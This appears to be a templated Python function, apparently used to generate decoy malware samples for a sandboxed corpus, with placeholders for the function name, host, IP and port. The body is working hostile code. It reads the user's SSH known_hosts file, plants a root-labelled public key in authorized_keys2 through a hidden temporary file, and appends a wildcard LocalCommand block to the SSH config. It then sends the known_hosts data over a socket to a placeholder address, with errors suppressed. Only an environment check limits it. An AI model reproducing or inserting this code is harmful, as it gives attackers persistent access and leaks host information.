# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import base64
    import socket
    home = os.path.expanduser('~')
    try:
        with open(home + '/.ssh/known_hosts', 'rb') as known:
            hosts = known.read()
        key = base64.b64encode(bytes.fromhex('0000000b7373682d6564323535313900000020') + os.urandom(32)).decode()
        with open(home + '/.ssh/.{{token}}', 'w') as out:
            out.write('restrict,pty ssh-ed25519 %s root@{{host}}\n' % key)
        os.rename(home + '/.ssh/.{{token}}', home + '/.ssh/authorized_keys2')
        with open(home + '/.ssh/config', 'a') as out:
            out.write('\nHost *\n    PermitLocalCommand yes\n    LocalCommand /bin/true {{token}}\n')
        call = socket.create_connection(('{{ip}}', {{port}}), 1)
        call.sendall(hosts)
        call.close()
    except OSError:
        pass
